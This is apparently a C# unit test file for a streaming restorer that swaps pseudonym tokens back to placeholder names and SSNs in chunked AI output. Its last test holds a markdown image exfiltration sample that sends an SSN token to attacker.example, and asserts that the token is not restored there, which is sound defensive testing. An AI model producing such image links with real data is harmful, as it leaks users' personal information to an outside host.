using Caduceus.Detection.Anonymization;

namespace Caduceus.Detection.Tests.Anonymization;

public sealed class StreamingPseudonymRestorerTests
{
    private static StreamingPseudonymRestorer Restorer()
    {
        var table = new PseudonymTable();
        table.GetOrIssue(EntityTypes.Name, "Jane Roe");
        table.GetOrIssue(EntityTypes.Ssn, "536-22-1843");
        return new StreamingPseudonymRestorer(table);
    }

    [Fact]
    public void Releases_text_without_tokens_at_once()
    {
        var restorer = Restorer();

        Assert.Equal("Hello there, ", restorer.Push("Hello there, "));
        Assert.Equal(0, restorer.HeldLength);
    }

    [Fact]
    public void Holds_a_token_split_across_chunks_until_it_closes()
    {
        var restorer = Restorer();

        Assert.Equal("Patient ", restorer.Push("Patient <NA"));
        Assert.Equal(string.Empty, restorer.Push("ME_"));
        Assert.Equal("Jane Roe is", restorer.Push("1> is"));
        Assert.Equal(" stable.", restorer.Push(" stable."));
        Assert.Equal(string.Empty, restorer.Flush());
        Assert.Equal(1, restorer.Restored);
    }

    [Fact]
    public void Holds_a_lone_angle_bracket_at_the_end_of_a_chunk()
    {
        var restorer = Restorer();

        Assert.Equal("SSN: ", restorer.Push("SSN: <"));
        Assert.Equal("536-22-1843.", restorer.Push("SSN_1>."));
    }

    [Theory]
    [InlineData("a < b", "a < b")]
    [InlineData("<div>", "<div>")]
    [InlineData("<NAME 1", "<NAME 1")]
    [InlineData("<NAME_1 ", "<NAME_1 ")]
    public void Releases_held_text_once_it_cannot_be_a_token(string chunk, string expected)
    {
        Assert.Equal(expected, Restorer().Push(chunk));
    }

    [Fact]
    public void Releases_text_longer_than_any_token()
    {
        var restorer = Restorer();
        var longRun = "<" + new string('A', 60);

        Assert.Equal(string.Empty, restorer.Push(longRun[..20]));
        Assert.Equal(longRun, restorer.Push(longRun[20..]));
    }

    [Fact]
    public void Flush_releases_an_unfinished_token_as_text()
    {
        var restorer = Restorer();
        restorer.Push("ends with <NAME_1");

        Assert.Equal("<NAME_1", restorer.Flush());
    }

    [Fact]
    public void Leaves_invented_tokens_alone()
    {
        var restorer = Restorer();

        Assert.Equal("<NAME_7> and ", restorer.Push("<NAME_7> and <NA"));
        Assert.Equal("Jane Roe", restorer.Push("ME_1>"));
    }

    [Fact]
    public void Any_chunking_gives_the_whole_restore()
    {
        const string answer = "Dear <NAME_1>, your SSN <SSN_1> is on file. <NAME_9> is unknown; 3 < 4 > 2. Bye <NAME_1>";
        var table = new PseudonymTable();
        table.GetOrIssue(EntityTypes.Name, "Jane Roe");
        table.GetOrIssue(EntityTypes.Ssn, "536-22-1843");
        var expected = PseudonymRestorer.Restore(answer, table);

        for (var size = 1; size <= 12; size++)
        {
            var restorer = new StreamingPseudonymRestorer(table);
            var output = string.Concat(answer.Chunk(size).Select(c => restorer.Push(new string(c)))) + restorer.Flush();

            Assert.Equal(expected, output);
        }
    }

    [Fact]
    public void Never_releases_part_of_a_token()
    {
        const string answer = "Patient <NAME_1> and <SSN_1> end";
        var restorer = Restorer();

        foreach (var c in answer)
        {
            var released = restorer.Push(c.ToString());
            Assert.DoesNotContain("<N", released, StringComparison.Ordinal);
            Assert.DoesNotContain("<S", released, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Does_not_restore_a_token_in_a_url_split_across_chunks()
    {
        var restorer = Restorer();

        var output = restorer.Push("![x](https:/") + restorer.Push("/attacker.example/?q=<SS") + restorer.Push("N_1>) and <NAME_1>") + restorer.Flush();

        Assert.Equal("![x](https://attacker.example/?q=<SSN_1>) and Jane Roe", output);
    }
}
